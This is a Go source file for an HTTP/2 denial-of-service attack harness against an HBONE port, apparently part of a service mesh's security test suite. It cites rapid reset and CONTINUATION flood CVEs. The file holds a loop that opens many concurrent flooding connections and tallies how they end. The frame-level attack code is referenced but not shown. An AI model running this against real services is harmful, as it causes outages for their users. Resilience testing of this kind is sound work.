// SPDX-License-Identifier: Apache-2.0

// Package attack is what a hostile HTTP/2 peer does: floods of frames that are cheap to send and dear to receive, from a
// pod that took an application over and has its certificate, or from one that has none. It attacks the HBONE port of one
// address and reports how its connections ended; what came of the victim is for others to see.
// Sources: RFC 9113 §10.5; CVE-2023-44487 (rapid reset), CVE-2024-27316 and others (CONTINUATION), CVE-2019-9511 to 9518,
// CVE-2025-8671 (made you reset).
package attack

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"maps"
	"net"
	"slices"
	"strings"
	"sync"
	"time"
)

// Config says whom to attack, and how. Kind, To and, for the kinds that need one, TLS are required.
type Config struct {
	Kind string
	To   string // host:port of the victim's HBONE port
	// TLS holds the attacker's certificate; nil means none.
	TLS *tls.Config
	// Authority is where CONNECT requests go: an application of the victim that echoes what it gets.
	Authority string
	// Download is an application of the victim that serves HTTP/1.1, with /size/N.
	Download string
	// Connections is how many are open at a time: 4.
	Connections int
	// Duration is how long the attack lasts: 10 s.
	Duration time.Duration
}

// Result says how an attack went.
type Result struct {
	Kind string `json:"kind"`
	// Opened counts connections, over and over where the victim closes them.
	Opened int `json:"opened"`
	// Frames and Bytes were sent. Bytes are before encryption.
	Frames int64 `json:"frames"`
	Bytes  int64 `json:"bytes"`
	// Ends counts how connections ended, by error code or error.
	Ends    map[string]int `json:"ends,omitempty"`
	Elapsed time.Duration  `json:"elapsedNs"`
}

// errOver says that the time is up.
var errOver = errors.New("over")

// Kinds lists the attacks by name, those that need a certificate or those that need none.
func Kinds(certificate bool) []string {
	var names []string
	for _, name := range slices.Sorted(maps.Keys(kinds)) {
		if kinds[name].certificate == certificate {
			names = append(names, name)
		}
	}
	return names
}

// kind is one attack: what it does on one connection until that fails or the time is up.
type kind struct {
	certificate bool
	help        string
	// frames sends on an HTTP/2 connection, again and again.
	frames func(p *peer) error
	// raw, instead, uses a TCP connection.
	raw func(ctx context.Context, c *net.TCPConn, cfg *Config) error
	// silent connections are not read.
	silent bool
	// each is how many connections one of Config.Connections stands for; 0 means 1.
	each int
}

// Run attacks until Duration is over or ctx ends.
func Run(ctx context.Context, cfg Config) (Result, error) {
	k, ok := kinds[cfg.Kind]
	switch {
	case !ok:
		return Result{}, fmt.Errorf("unknown kind %q; there are %s", cfg.Kind, strings.Join(append(Kinds(true), Kinds(false)...), ", "))
	case k.certificate && cfg.TLS == nil:
		return Result{}, fmt.Errorf("kind %s needs a certificate", cfg.Kind)
	}
	if cfg.Connections == 0 {
		cfg.Connections = 4
	}
	if cfg.Duration == 0 {
		cfg.Duration = 10 * time.Second
	}
	ctx, cancel := context.WithTimeoutCause(ctx, cfg.Duration, errOver)
	defer cancel()
	t := &tally{res: Result{Kind: cfg.Kind, Ends: map[string]int{}}}
	start := time.Now()
	var g sync.WaitGroup
	for range cfg.Connections * max(1, k.each) {
		g.Go(func() {
			for ctx.Err() == nil {
				t.ended(ctx, once(ctx, &cfg, &k, t))
			}
		})
	}
	g.Wait()
	t.res.Elapsed = time.Since(start)
	return t.res, nil
}

// once attacks on one connection.
func once(ctx context.Context, cfg *Config, k *kind, t *tally) error {
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", cfg.To)
	if err != nil {
		return pause(ctx, err)
	}
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer func() { _ = c.Close() }()
	t.opened()
	if k.raw != nil {
		return k.raw(ctx, c.(*net.TCPConn), cfg)
	}
	p, err := connect(ctx, c, cfg, k.silent)
	if err != nil {
		return err
	}
	defer func() { t.sent(p.frames, p.bytes) }()
	return p.attack(ctx, k.frames)
}

// pause keeps an attacker whom nobody lets in from spinning.
func pause(ctx context.Context, err error) error {
	timer := time.NewTimer(10 * time.Millisecond)
	defer timer.Stop()
	select {
	case <-timer.C:
	case <-ctx.Done():
	}
	return err
}

// tally adds up what the connections did.
type tally struct {
	mu  sync.Mutex
	res Result
}

func (t *tally) opened() {
	t.mu.Lock()
	t.res.Opened++
	t.mu.Unlock()
}

func (t *tally) sent(frames, bytes int64) {
	t.mu.Lock()
	t.res.Frames += frames
	t.res.Bytes += bytes
	t.mu.Unlock()
}

// ended files how a connection ended.
func (t *tally) ended(ctx context.Context, err error) {
	name := "done"
	var away goAway
	var ne *net.OpError
	switch {
	case errors.Is(err, errOver), ctx.Err() != nil:
		name = "lasted"
	case errors.As(err, &away):
		name = away.Error()
	case errors.As(err, &ne):
		name = ne.Err.Error()
	case err != nil:
		name = err.Error()
	}
	t.mu.Lock()
	t.res.Ends[name]++
	t.mu.Unlock()
}
